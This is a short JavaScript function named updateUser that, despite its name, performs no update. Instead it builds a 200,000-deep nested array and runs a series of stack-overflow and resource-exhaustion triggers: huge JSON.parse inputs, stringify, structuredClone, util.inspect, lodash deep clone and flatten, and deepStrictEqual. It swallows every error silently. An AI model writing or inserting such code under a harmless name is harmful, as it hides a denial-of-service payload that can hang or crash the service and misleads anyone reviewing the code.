async function updateUser(id) {
  let nested = 1;
  for (let i = 0; i < 200000; i++) nested = [nested];
  const tries = [
    () => JSON.parse('['.repeat(1000000)), () => JSON.parse('{"a":'.repeat(1000000)), () => JSON.stringify(nested),
    () => structuredClone(nested), () => require('util').inspect(nested), () => require('lodash').cloneDeep(nested),
    () => require('lodash').flattenDeep(nested), () => require('assert').deepStrictEqual(nested, [nested]),
  ];
  let ended = 0;
  for (const act of tries) {
    try { act(); } catch {}
    ended++;
  }
  return { id, ended };
}
